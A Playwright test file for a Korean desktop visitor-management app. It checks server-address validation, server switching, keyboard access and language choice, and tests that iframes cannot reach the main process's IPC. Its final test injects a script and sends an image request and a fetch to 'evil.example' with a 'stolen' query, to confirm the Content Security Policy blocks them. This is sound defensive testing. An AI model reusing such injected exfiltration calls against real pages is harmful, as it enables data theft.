import type { Page } from "playwright-core";
import { describe, expect, it } from "vitest";
import type { ServerProblem } from "../../desktop/ipc.ts";
import { fine, one, pageSuite, two } from "./support/page-suite.ts";
import { healthy, listen, saying, serve } from "./support/servers.ts";

const { open, arrives, tolerate } = pageSuite();

const address = (page: Page) => page.getByRole("textbox", { name: "서버 주소" });
const type = async (page: Page, text: string) => {
  await address(page).fill(text);
  await address(page).press("Enter");
};
const sees = (page: Page, text: string) => page.getByText(text, { exact: false }).first().waitFor();

describe("the first start", () => {
  it("asks for the server, goes on to the console, and shows the server when somebody is back", async () => {
    const server = await serve(healthy);
    const { page, origin, settings, opened } = await open();
    expect(await page.title()).toBe("방문 관리");
    expect(await address(page).evaluate((input) => input === document.activeElement)).toBe(true);
    await type(page, `${server.origin}/form`);
    await arrives(page);
    expect(settings.value()).toMatchObject({ servers: [server.origin], current: server.origin });

    await page.goto(`${origin}/`);
    await page.getByRole("region", { name: "사용 중인 서버" }).getByText("연결됨").waitFor();
    await page.getByRole("button", { name: "방문예약 사이트 열기" }).click();
    await expect.poll(() => opened).toEqual([`${server.origin}/`]);
    await page.getByRole("button", { name: "방문 관리 열기" }).click();
    await arrives(page);
  });

  it("says beside the field what is wrong with an address, and no longer once it is changed", async () => {
    const { page, settings } = await open();
    const input = address(page);
    for (const [typed, words] of [
      ["", "서버 주소를 입력해 주세요."],
      ["visit example", "주소 형식이 올바르지 않습니다."],
      ["ftp://visit.example.com", "https://로 시작하는 주소만"],
      ["http://visit.example.com", "암호화되지 않는 http://"],
      ["https://me:secret@visit.example.com", "아이디나 비밀번호를 넣을 수 없습니다."],
    ] as const) {
      await type(page, typed);
      await sees(page, words);
      expect(await input.getAttribute("aria-invalid")).toBe("true");
      const described = (await input.getAttribute("aria-describedby")) ?? "";
      const error = described.split(" ")[0] ?? "";
      expect(await page.locator(`[id="${error}"]`).textContent()).toContain(words);
      expect(await input.evaluate((element) => element === document.activeElement)).toBe(true);
      await input.fill("https://");
      await expect.poll(() => input.getAttribute("aria-invalid")).toBeNull();
    }
    expect(settings.value().servers).toEqual([]);
  });

  it("says what is wrong with what answers", async () => {
    const wifi = await serve(saying(200, "text/html", "<html>Wi-Fi</html>"));
    const other = await serve(saying(200, "application/json", '{"status":"ok","product":"wiki"}'));
    const silent = await serve(() => {});
    const moved = await serve((_request, response) =>
      response.writeHead(302, { Location: "https://portal.example/login" }).end(),
    );
    const { page, settings } = await open();
    for (const [{ origin }, words] of [
      [wifi, "웹페이지가 응답했습니다"],
      [other, "방문 관리 서버가 아닙니다"],
      [silent, "제때 응답하지 않습니다"],
      [moved, "다른 주소(portal.example)로 넘겨져"],
    ] as const) {
      await type(page, origin);
      await sees(page, words);
    }
    expect(settings.value().servers).toEqual([]);
  });

  it("says that settings were lost", async () => {
    const { page } = await open({ settings: '{"servers":["https://visit' });
    await sees(page, "저장된 설정을 읽을 수 없어 새로 시작합니다.");
  });
});

describe("several servers", () => {
  it("change by a press; one that fails stays where it was, with the reason beside it", async () => {
    const wrong: ServerProblem = { code: "unreachable" };
    const { page, settings } = await open({
      servers: [one, two],
      current: one,
      checkServer: async (server) => (server === two ? wrong : undefined),
    });
    await page.getByRole("button", { name: `${two}에 연결` }).click();
    await page.getByRole("listitem").getByText("서버에 연결하지 못했습니다.").waitFor();
    expect(settings.value().current).toBe(one);
    await page.getByRole("button", { name: `${two} 삭제` }).click();
    await page.getByRole("listitem").waitFor({ state: "detached" });
    expect(settings.value().servers).toEqual([one]);
    await expect.poll(() => page.evaluate(() => document.activeElement?.textContent)).toBe("서버 연결");
  });

  it("can be changed and removed by keyboard alone", async () => {
    const { page, origin, settings } = await open({ servers: [one, two], current: one, checkServer: fine });
    const press = async (name: string) => {
      for (let n = 0; n < 12; n++) {
        await page.keyboard.press("Tab");
        const label = await page.evaluate(
          () => document.activeElement?.getAttribute("aria-label") ?? document.activeElement?.textContent,
        );
        if (label === name) return page.keyboard.press("Enter");
      }
      throw new Error(`No way to ${name}.`);
    };
    await press(`${two}에 연결`);
    await arrives(page);
    expect(settings.value().current).toBe(two);
    await page.goto(`${origin}/`);
    await page.getByRole("heading", { level: 1 }).waitFor();
    await press(`${one} 삭제`);
    await expect.poll(() => settings.value().servers).toEqual([two]);
  });

  it("show the one that stopped answering, and ask it again", async () => {
    const server = await listen(healthy);
    const { page, connection } = await open({ servers: [server.origin], current: server.origin });
    await connection.check();
    await sees(page, "연결됨");
    await server.close();
    await page.getByRole("button", { name: "다시 확인" }).click();
    await page.getByRole("alert").getByText("서버에 연결하지 못했습니다.").waitFor();
    await page.getByText("연결 안 됨").waitFor();
    expect(await page.getByRole("button", { name: "방문예약 사이트 열기" }).count()).toBe(0);
  });

  it("say when the browser cannot be opened", async () => {
    const { page, connection } = await open({
      servers: [one],
      current: one,
      checkServer: fine,
      hasBrowser: false,
    });
    await connection.check();
    await page.getByRole("button", { name: "방문예약 사이트 열기" }).click();
    await page.getByRole("alert").getByText("브라우저를 열지 못했습니다.").waitFor();
  });
});

it("the language is chosen on the page and kept", async () => {
  const { page, settings } = await open();
  await page.getByRole("combobox", { name: "언어 선택 (Language)" }).selectOption("en");
  await page.getByRole("heading", { name: "Connect to your server" }).waitFor();
  await expect
    .poll(() => page.evaluate(() => [document.documentElement.lang, document.title]))
    .toEqual(["en", "Visitor Desk"]);
  expect(settings.value().language).toBe("en");
});

it("a frame inside the page gets nothing from the main process", async () => {
  const { page, log } = await open();
  const refused = await page.evaluate(async () => {
    const frame = document.createElement("iframe");
    document.body.append(frame);
    const inner = frame.contentWindow as unknown as {
      __invoke: (channel: string, args: unknown[]) => Promise<unknown>;
    };
    return inner.__invoke("connection.read", []).then(
      () => "answered",
      (error: Error) => error.message,
    );
  });
  expect(refused).toContain("refused");
  expect(log).toContain("ipc-refused connection.read subframe");
});

it("the policy stops what was slipped into the page", async () => {
  tolerate(/Content Security Policy/);
  const { page } = await open();
  const outcome = await page.evaluate(async () => {
    const broken: string[] = [];
    const allTold = new Promise<void>((resolve) => {
      document.addEventListener("securitypolicyviolation", (event) => {
        if (broken.push(event.effectiveDirective) === 3) resolve();
      });
    });
    const script = document.createElement("script");
    script.textContent = "window.slipped = true";
    document.body.append(script);
    const image = new Image();
    image.src = "https://evil.example/?stolen";
    document.body.append(image);
    await fetch("https://evil.example/").catch(() => {});
    await allTold;
    return { broken: broken.sort(), slipped: "slipped" in window };
  });
  expect(outcome).toEqual({ broken: ["connect-src", "img-src", "script-src-elem"], slipped: false });
});
